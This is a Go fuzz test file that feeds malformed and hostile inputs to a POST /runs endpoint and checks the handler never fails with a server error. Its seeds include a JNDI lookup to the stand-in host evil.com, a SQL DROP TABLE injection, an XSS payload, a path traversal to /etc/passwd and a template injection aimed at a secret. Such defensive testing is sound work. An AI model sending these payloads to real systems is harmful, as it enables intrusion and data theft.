package httpserver

import (
	"bytes"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

// FuzzCreateRunBody sends arbitrary request bodies to POST /runs. No input may
// panic the handler or surface as a server error.
func FuzzCreateRunBody(f *testing.F) {
	stream := testStream()

	f.Add([]byte(`{"stream_id":"` + stream.ID.String() + `"}`))
	f.Add([]byte(`{"stream_id":"` + stream.ID.String() + `","start_date":"2026-01-01","end_date":"2026-01-31"}`))
	f.Add([]byte(`{"stream_id":"` + stream.ID.String() + `","start_date":"2026-02-30","end_date":"2026-01-31"}`))
	f.Add([]byte(`{"stream_id":"` + stream.ID.String() + `","run_type":"scheduled"}`))
	f.Add([]byte(`{"stream_id":null}`))
	f.Add([]byte(`{"stream_id":123}`))
	f.Add([]byte(`{"report_name":["a"]}`))
	f.Add([]byte(`{}`))
	f.Add([]byte(`not json at all`))
	f.Add([]byte{0x00})
	f.Add([]byte{0xff, 0xfe})
	f.Add([]byte(`{"stream_id":"` + stream.ID.String() + `","report_name":"${jndi:ldap://evil.com/a}"}`))
	f.Add([]byte(`{` + strings.Repeat(`"k":`, 100) + `"v"}`))

	f.Fuzz(func(t *testing.T, body []byte) {
		d := newTestDeps()
		d.streams.streams[stream.ID] = stream

		req := httptest.NewRequest(http.MethodPost, "/runs", bytes.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
		rr := serveHTTP(newTestHTTPServer(d), req)

		if rr.Code >= http.StatusInternalServerError {
			t.Fatalf("body %q produced status %d: %s", body, rr.Code, rr.Body.String())
		}
	})
}

// FuzzCreateRunReportName checks that any report name is either accepted
// verbatim or rejected with a 400.
func FuzzCreateRunReportName(f *testing.F) {
	seeds := []string{
		"'; DROP TABLE executions; --",
		"<svg/onload=alert('xss')>",
		"name\x00with\x00nulls",
		"\u202Eright-to-left\u202C",
		"\U0001F4A9",
		"{{.Env.SECRET}}",
		"../../etc/passwd",
		strings.Repeat("é", 300),
		"",
		"   ",
	}
	for _, s := range seeds {
		f.Add(s)
	}

	stream := testStream()

	f.Fuzz(func(t *testing.T, name string) {
		d := newTestDeps()
		d.streams.streams[stream.ID] = stream

		rr := serveHTTP(newTestHTTPServer(d), postJSON("/runs", map[string]string{
			"stream_id":   stream.ID.String(),
			"report_name": name,
		}))

		switch rr.Code {
		case http.StatusAccepted, http.StatusBadRequest:
		default:
			t.Fatalf("report name %q produced status %d: %s", name, rr.Code, rr.Body.String())
		}
	})
}
